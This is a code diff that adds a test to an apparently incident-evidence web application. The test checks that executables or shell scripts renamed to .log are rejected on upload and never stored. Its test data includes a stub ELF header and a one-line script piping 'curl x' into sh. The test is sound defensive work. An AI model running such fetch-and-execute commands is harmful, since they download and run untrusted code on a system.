@@ -210,3 +210,23 @@ def test_custody_records_the_client_behind_the_proxy_not_a_spoofed_address(
             == status
         )
     assert ev.custody.count() == 2
+
+
+ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(48)
+
+
+def test_program_renamed_log_is_400_and_nothing_written(
+    client_for, api_for, incident, responder, viewer, media
+):
+    """Issue 10, leak 8: only the extension was checked, so an executable named .log was stored."""
+    response = post_upload(client_for(responder), incident, upload("access.log", ELF))
+    assert response.status_code == 400 and "is a program or a script" in response.content.decode()
+    api = create_by_api(api_for(responder), incident, upload("run.log", b"#!/bin/sh\ncurl x | sh\n"))
+    assert api.status_code == 400 and "is a program or a script" in api.json()["file"][0]
+    assert post_upload(client_for(viewer), incident, upload("access.log", ELF)).status_code == 403
+    assert Evidence.objects.count() == 0 and CustodyEntry.objects.count() == 0 and stored_files(media) == []
+
+
+def create_by_api(client, incident, file):
+    data = {"incident": incident.pk, "file": file, "kind": "log", "classification": "internal"}
+    return client.post("/api/v1/evidence/", data, format="multipart")
